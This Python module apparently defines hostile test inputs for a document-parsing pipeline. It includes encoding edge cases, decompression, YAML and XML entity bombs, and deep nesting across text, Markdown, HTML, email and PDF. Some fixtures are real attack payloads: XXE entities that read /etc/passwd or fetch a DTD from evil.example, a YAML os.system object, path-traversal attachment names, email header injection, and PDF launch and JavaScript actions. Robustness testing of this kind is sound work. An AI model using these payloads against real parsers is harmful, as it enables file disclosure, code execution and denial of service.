"""Hostile documents: what is wrong with them is their bytes or their shape, not their words."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Mapping

from carriers import AFTER, BEFORE, pdf_of, zipped
from payloads import MANY, SOAK

WORDS = f"{BEFORE}\n\n{AFTER}\n"
_ASCII = WORDS.replace("–", "-").replace("“", '"').replace("”", '"')
BOMB = 100_000_000 if SOAK else 1_500_000

TEXTS: Mapping[str, bytes] = {
    "empty": b"",
    "blank": b" \t\r\n" * 50,
    "byte-order-mark": b"\xef\xbb\xbf",
    "one-nul": b"\0",
    "nuls": b"\0" * 5_000,
    "one-escape": b"\x1b",
    "ff": b"\xff" * 5_000,
    "utf-8-bom": b"\xef\xbb\xbf" + WORDS.encode(),
    "two-boms": b"\xef\xbb\xbf\xef\xbb\xbf" + WORDS.encode(),
    "utf-16": WORDS.encode("utf-16"),
    "utf-16-be-bom": b"\xfe\xff" + WORDS.encode("utf-16-be"),
    "utf-16-bare": WORDS.encode("utf-16-le"),
    "utf-16-odd": WORDS.encode("utf-16") + b"x",
    "utf-16-surrogates": b"\xff\xfe"
    + "a\ud800b\udc00\ud800".encode("utf-16-le", "surrogatepass")
    + WORDS.encode("utf-16-le"),
    "utf-32": WORDS.encode("utf-32"),
    "utf-32-be": b"\0\0\xfe\xff" + WORDS.encode("utf-32-be"),
    "utf-32-too-high": b"\xff\xfe\0\0" + b"\xff\xff\xff\x7f" * 20 + WORDS.encode("utf-32-le"),
    "utf-32-cut": WORDS.encode("utf-32")[:-3],
    "utf-7": WORDS.encode("utf-7"),
    "overlong": b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf " + WORDS.encode(),
    "five-bytes": b"\xf8\x88\x80\x80\x80 " + WORDS.encode(),
    "surrogates-in-utf-8": "\ud83d\ude00 \udcff ".encode("utf-8", "surrogatepass") + WORDS.encode(),
    "cut-letter": WORDS.encode() + b"\xe2\x80",
    "latin-1": WORDS.encode("latin-1", "replace") + "é à ü".encode("latin-1"),
    "windows-1252": WORDS.encode("cp1252"),
    "shift-jis": ("港が開いた。" * 30).encode("shift_jis") + _ASCII.encode(),
    "iso-2022-jp": ("港が開いた。" * 30).encode("iso2022_jp") + _ASCII.encode(),
    "gb18030": ("港口星期一开放。" * 30).encode("gb18030"),
    "koi8-r": ("Гавань открылась в понедельник. " * 30).encode("koi8-r"),
    "ebcdic": _ASCII.encode("cp037"),
    "mixed": b"\xe9\xe8 " + WORDS.encode() + b"\xfc\xff\x80",
    "cr": WORDS.replace("\n", "\r").encode(),
    "mixed-line-ends": WORDS.replace("\n\n", "\r\n\r\n\r\n").encode() + b"\n\r\n\r",
    "no-line-end": b"a" * (MANY * 10),
    "line-ends": b"\n" * (MANY * 10),
    "hard-wraps": ("word " * 15 + "\n").encode() * (MANY // 20),
    "gzip": gzip.compress(WORDS.encode()),
    "zip": zipped({"a.txt": WORDS.encode()}),
    "picture": b"\x89PNG\r\n\x1a\n" + bytes(200),
    "program": b"\x7fELF" + bytes(200),
    "bylines": b"By " * (MANY * 6) + b"Ana Prates\n\n" + WORDS.encode(),
    "datelines": b"TARNOW, " * MANY + "May 6 – It rained.\n\n".encode() + WORDS.encode(),
    "digits": b"1" * (MANY * 9) + b"% " + WORDS.encode(),
    "mark-and-letters": "港口星期一开放。".encode("utf-16") * 30,
    "script": b"#!/bin/sh\nid\n" + WORDS.encode(),
}
_YAML_BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + at)}: &{chr(98 + at)} [{','.join(['*' + chr(97 + at)] * 9)}]\n" for at in range(9)
)
MARKDOWNS: Mapping[str, str] = {
    "quotations": ">" * MANY + " x\n\n" + WORDS,
    "brackets": "[" * MANY + WORDS,
    "closed-brackets": "[" * MANY + "a" + "](b)" * MANY,
    "emphasis": "*a **" * MANY + WORDS,
    "underscores": "_a __b " * MANY,
    "lists": "".join(f"{'  ' * at}- a\n" for at in range(min(MANY, 400))) + WORDS,
    "bullets": "- " * MANY + WORDS,
    "backticks": "".join("`" * at + " " for at in range(min(MANY, 600))) + WORDS,
    "pictures": "![a](" * MANY + WORDS,
    "references": "".join(f"[a{at}]: b\n" for at in range(MANY)) + WORDS,
    "entities": "&amp;&#x1b;&#0;" * MANY,
    "angles": "<a " * MANY + WORDS,
    "declarations": "<!X " * MANY + WORDS,
    "table": "|a" * min(MANY, 1_000)
    + "|\n"
    + "|-" * min(MANY, 1_000)
    + "|\n"
    + "|b" * min(MANY, 1_000)
    + "|\n\n"
    + WORDS,
    "headings": "# a\n" * MANY,
    "rules": "***\n" * MANY + WORDS,
    "yaml-bomb": f"---\n{_YAML_BOMB}---\n\n{WORDS}",
    "yaml-object": f"---\ntitle: !!python/object/apply:os.system ['id']\n---\n\n{WORDS}",
    "yaml-open": f"---\ntitle: x\n{WORDS}",
    "yaml-deep": f"---\ntitle: {'[' * MANY}\n---\n\n{WORDS}",
    "yaml-merge": f"---\n<<: {{a: 1}}\n? [a, b]\n: c\ndate: 9999-99-99\ntitle: 1.e999\n---\n\n{WORDS}",
    "yaml-aliases": f"---\na: &a [1]\nb: [{'*a,' * MANY}*a]\n---\n\n{WORDS}",
    "links-open": "[a](" * MANY + "\n\n" + WORDS,
    "toml": f"+++\ntitle = 'x'\n+++\n\n{WORDS}",
    "page-inside": f"<html><body><script>1</script></body></html>\n\n{WORDS}",
}
_SHOWN = f"<p>{BEFORE}</p><p>{AFTER}</p>"
LOLS = "".join(f'<!ENTITY l{at + 1} "{f"&l{at};" * 10}">' for at in range(9))


def _page(body: str, head: str = "<title>Harbour</title>") -> str:
    return f"<!doctype html><html><head><meta charset=utf-8>{head}</head><body>{body}</body></html>"


def _ld(value: str) -> str:
    return _page(f"<article>{_SHOWN}</article>", f'<script type="application/ld+json">{value}</script>')


PAGES: Mapping[str, str] = {
    "divs": _page("<div>" * MANY + _SHOWN),
    "closed-divs": _page("<div>" * MANY + _SHOWN + "</div>" * MANY),
    "spans": _page("<p>" + "<span>" * MANY + BEFORE),
    "tables": _page("<table><tr><td>" * MANY + _SHOWN),
    "lists": _page("<ul><li>" * MANY + _SHOWN),
    "bold": _page("<b><p>" * min(MANY, 5_000) + _SHOWN),
    "adoption": _page("<a><b><i>" * min(MANY, 5_000) + "</a></b></i>" * min(MANY, 5_000) + _SHOWN),
    "fonts": _page("<font><div>" * min(MANY, 3_000) + _SHOWN),
    "quotations": _page("<blockquote>" * MANY + _SHOWN),
    "closing": _page("</p></div>" * MANY + _SHOWN),
    "attributes": _page("<p " + "".join(f"a{at}=b " for at in range(MANY)) + f">{BEFORE}</p>{_SHOWN}"),
    "long-attribute": _page(f'<p title="{"x" * MANY * 10}">{BEFORE}</p>{_SHOWN}'),
    "paragraphs": _page("<p>Berg said so." * MANY + _SHOWN),
    "empty-paragraphs": _page("<p></p><br>" * MANY + _SHOWN),
    "heads": _page("<h2>a</h2>" * MANY + _SHOWN),
    "links": _page('<a href="x">a</a> ' * MANY + _SHOWN),
    "wide-table": _page("<table>" + ("<tr>" + "<td>a" * 100) * (MANY // 100) + "</table>" + _SHOWN),
    "comment": _page(f"{_SHOWN}<!--" + "x" * MANY),
    "comments": _page("<!--a-->" * MANY + _SHOWN),
    "open-script": _page(f"{_SHOWN}<script>" + "x" * MANY),
    "plaintext": _page(f"{_SHOWN}<plaintext>" + "x" * MANY),
    "template": _page(f"<template>{_SHOWN}</template><noscript>{_SHOWN}</noscript>{_SHOWN}"),
    "svg": _page("<svg><g>" * min(MANY, 20_000) + f"<article>{_SHOWN}</article>"),
    "ruby": _page("<ruby><rb>a<rt>b" * MANY + _SHOWN),
    "options": _page("<select><option>a" * MANY + _SHOWN),
    "comments-within": _page("<!--" * MANY + _SHOWN),
    "references": _page("<p>" + "&#x202e;" * MANY + _SHOWN),
    "frames": _page('<frameset><frame src="https://evil.example"></frameset>'),
    "lols": f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol">{LOLS}]><html><body>{_SHOWN}<p>&l9;</p></body></html>',
    "outside": f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body>{_SHOWN}<p>&x;</p></body></html>',
    "parameter": f'<!DOCTYPE html [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><html><body>{_SHOWN}</body></html>',
    "inclusion": _page(f'<xi:include href="file:///etc/passwd" xmlns:xi="http://www.w3.org/2001/XInclude"/>{_SHOWN}'),
    "charset-lie": _page(_SHOWN).replace("charset=utf-8", "charset=utf-7"),
    "charset-codec": _page(_SHOWN).replace("charset=utf-8", "charset=rot13"),
    "charset-unknown": _page(_SHOWN).replace("charset=utf-8", "charset='\x1b]0;x\x07'"),
    "base": _page(_SHOWN, '<base href="javascript:x"><link rel=canonical href="javascript:alert(1)"><title>x</title>'),
    "canonical-inside": _page(_SHOWN, '<link rel=canonical href="http://user:secret@127.0.0.1/"><title>x</title>'),
    "ld-deep": _ld("[" * MANY),
    "ld-deep-closed": _ld('{"a":' * min(MANY, 900) + "1" + "}" * min(MANY, 900)),
    "ld-number": _ld('{"@type":"NewsArticle","wordCount":' + "9" * MANY + "}"),
    "ld-surrogate": _ld('{"@type":"NewsArticle","headline":"\\ud800\\u001b]0;x\\u0007"}'),
    "ld-types": _ld('{"@type":["NewsArticle",1,null],"author":[[[{"name":{"a":1}}]]],"datePublished":{"b":[]}}'),
    "ld-body": _ld('{"@type":"NewsArticle","articleBody":"' + "word " * MANY + '"}'),
    "ld-many": _page(_SHOWN, '<script type="application/ld+json">{"@graph":[]}</script>' * (MANY // 10)),
    "metas": _page(_SHOWN, '<meta name="author" content="A B">' * MANY),
    "pixels": _page(f'{_SHOWN}<img src="https://evil.example/p.gif"><img src="file:///etc/passwd">'),
    "nul-in-tags": _page(f"<p\0>{BEFORE}</p\0><scr\0ipt>1</scr\0ipt>{_SHOWN}"),
    "no-article": _page("<nav><a href=x>a</a></nav>"),
    "only-tags": "<" * MANY,
    "xhtml-broken": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>{BEFORE}<b></p></html>',
    "xml-bomb-utf-16": f'<?xml version="1.0" encoding="UTF-16"?><html><body>{_SHOWN}</body></html>',
}


def _multipart(*parts: str, boundary: str = "x") -> str:
    inner = "".join(f"--{boundary}\n{part}\n" for part in parts)
    return f"From: a@b.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary={boundary}\n\n{inner}--{boundary}--\n"


def _nested(depth: int) -> str:
    head = "".join(f"Content-Type: multipart/mixed; boundary=b{at}\n\n--b{at}\n" for at in range(depth))
    return f"{head}Content-Type: text/plain; charset=utf-8\n\n{WORDS}"


_PLAIN = f"Content-Type: text/plain; charset=utf-8\n\n{WORDS}"
MAILS: Mapping[str, str] = {
    "parts": _multipart(_PLAIN, *["Content-Type: text/plain\n\nx\n"] * 1_000),
    "late-part": _multipart(*["Content-Type: image/png\n\nx\n"] * 400, _PLAIN),
    "nested": _nested(30),
    "nested-deep": _nested(min(MANY, 5_000)),
    "messages": "Content-Type: message/rfc822\n\n" * 500 + _PLAIN,
    "attachment-paths": _multipart(
        _PLAIN,
        'Content-Disposition: attachment; filename="../../../../tmp/evil"\n\nx',
        'Content-Disposition: attachment; filename="/etc/cron.d/evil"\n\nx',
        "Content-Disposition: attachment; filename*=utf-8''%2e%2e%2fevil%1b%5d\n\nx",
    ),
    "only-attachments": _multipart("Content-Disposition: attachment\nContent-Type: text/plain\n\nx"),
    "no-boundary": f"Content-Type: multipart/mixed\n\n{WORDS}",
    "boundary-everywhere": _multipart(_PLAIN, boundary="The"),
    "parts-of-few-words": _multipart(*["Content-Type: text/plain\n\nHi there\n"] * MANY),
    "messages-deep": "Content-Type: message/rfc822\n\n" * min(MANY, 20_000) + _PLAIN,
    "from-in-words": "From: " + "=?utf-8?b?4oCu?= " * MANY + f"<a@b.example>\n\n{WORDS}",
    "folded": "Subject: " + "a\n b" * MANY + f"\n\n{WORDS}",
    "external": 'Content-Type: message/external-body; access-type=URL; URL="http://127.0.0.1/x"\n\nContent-Type: text/plain\n\n',
    "charset": f"Content-Type: text/plain; charset=klingon\n\n{WORDS}",
    "charset-parts": f"Content-Type: text/plain; charset*0*=x''%ff; charset*1=y\n\n{WORDS}",
    "base64": "Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!===" + "QQ" * 999,
    "quoted-printable": f"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n=ZZ=\n={WORDS}=",
    "uuencode": "Content-Transfer-Encoding: x-uuencode\n\nbegin 644 ../evil\nM" + "x" * 60 + "\nend\n",
    "headers": "X-A: b\n" * MANY + f"\n{WORDS}",
    "long-header": "Subject: " + "a" * (MANY * 10) + f"\n\n{WORDS}",
    "words": "Subject: " + "=?utf-8?q?a?= " * MANY + f"\n\n{WORDS}",
    "word-charset": f"Subject: =?klingon?b?AAAA?= =?utf-8?b?!?= =?utf-8?q?=1b]0;x=07?=\n\n{WORDS}",
    "comments": f"From: {'(' * MANY}\nDate: {'(' * MANY}\n\n{WORDS}",
    "injection": f"Subject: =?utf-8?q?x=0d=0aBcc:_evil=40example?=\n\n{WORDS}",
    "date": f"Date: Mon, 99 Foo 99999 99:99:99 +9999\n\n{WORDS}",
    "page": f"Content-Type: text/html; charset=utf-8\n\n<script>1</script><p>{BEFORE}</p><p>{AFTER}</p>",
    "deep-page": "Content-Type: text/html\n\n" + "<div>" * MANY + f"<p>{BEFORE}",
    "no-headers": f"\n{WORDS}",
    "only-headers": "Subject: x\nFrom: y\n",
    "mbox": f"From a@b Mon\n{_PLAIN}\nFrom c@d Tue\n{_PLAIN}",
    "pictures": 'Content-Type: text/html\n\n<img src="https://evil.example/p.gif"><p>' + AFTER,
}
_SOUND = pdf_of(b"(The new harbour of Tarnow opened on Monday) Tj")
_FLATE = zlib.compress(b"BT /F1 9 Tf " + b"(a) Tj " * (BOMB // 70) + b"ET", 9)
_ZEROS = zlib.compress(bytes(BOMB), 9)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<<" + dictionary + b"/Length %d>>stream\n%b\nendstream" % (len(data), data)


PDFS: Mapping[str, bytes] = {
    "empty": b"",
    "head": b"%PDF-1.7",
    "text": b"no document at all",
    "cut": _SOUND[:300],
    "no-table": _SOUND[:-120],
    "pages-loop": _SOUND.replace(b"/Kids[4 0 R]", b"/Kids[2 0 R]"),
    "parent-loop": _SOUND.replace(b"/Parent 2 0 R", b"/Parent 4 0 R"),
    "count": _SOUND.replace(b"/Count 1", b"/Count 99999999"),
    "negative": _SOUND.replace(b"/Count 1", b"/Count -1"),
    "missing-object": _SOUND.replace(b"5 0 R", b"99 0 R"),
    "root-loop": _SOUND.replace(b"/Pages 2 0 R", b"/Pages 1 0 R"),
    "table-loop": _SOUND.replace(b"/Info 6 0 R", b"/Prev 9"),
    "brackets": b"%PDF-1.4\n1 0 obj" + b"[" * MANY,
    "dictionaries": b"%PDF-1.4\n1 0 obj" + b"<</A" * MANY,
    "bomb": pdf_of(b"", stream=_stream(b"/Filter/FlateDecode", _FLATE)),
    "zeros": pdf_of(b"", stream=_stream(b"/Filter/FlateDecode", _ZEROS)),
    "filters": pdf_of(b"", stream=_stream(b"/Filter[" + b"/FlateDecode" * 200 + b"]", _ZEROS[:2_000])),
    "hex-filters": pdf_of(b"", stream=_stream(b"/Filter[" + b"/ASCIIHexDecode" * 500 + b"]", b"41" * 2_000 + b">")),
    "run-length": pdf_of(b"", stream=_stream(b"/Filter/RunLengthDecode", b"\x81a" * MANY)),
    "lzw": pdf_of(b"", stream=_stream(b"/Filter/LZWDecode", b"\x80\x0b\x60\x50" * MANY)),
    "form-loop": pdf_of(
        b"/X Do",
        page=b"/Resources<</XObject<</X 7 0 R>>>>",
        extra=(_stream(b"/Type/XObject/Subtype/Form/Resources<</XObject<</X 7 0 R>>>>", b"/X Do /X Do"),),
    ),
    "action": pdf_of(b"(x) Tj", page=b"/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>"),
    "launch": pdf_of(b"(x) Tj", page=b"/AA<</O<</S/Launch/F(/bin/sh)>>>>"),
    "numbers": pdf_of(b"9" * MANY + b" 0 Td (x) Tj"),
    "operators": pdf_of(b"q " * MANY + b"(x) Tj"),
    "strings": pdf_of(b"(" * MANY),
    "far-moves": pdf_of(b"0 99999999999999999999 Td (x) Tj " * (MANY // 2)),
    "endless-turns": pdf_of(b"1 0 0 1 1e308 1e308 cm (x) Tj " * (MANY // 5)),
    "long-string": pdf_of(b"(" + b"a" * (MANY * 9) + b") Tj"),
    "references": pdf_of(b"(x) Tj", extra=tuple(b"%d 0 R" % (7 + (at + 1) % 200) for at in range(200))),
    "deep-page": pdf_of(b"(x) Tj", page=b"/A " + b"<</B " * (MANY // 2)),
    "encrypted": _SOUND.replace(b"/Info 6 0 R", b"/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -1>>"),
    "font-loop": _SOUND.replace(b"/BaseFont/Helvetica", b"/BaseFont/H/ToUnicode 3 0 R"),
    "code-map": pdf_of(
        b"(abc) Tj",
        extra=(_stream(b"", b"1 beginbfrange <00> <ffffffff> <0041> endbfrange"),),
    ).replace(b"/WinAnsiEncoding", b"/Identity-H/ToUnicode 7 0 R"),
}
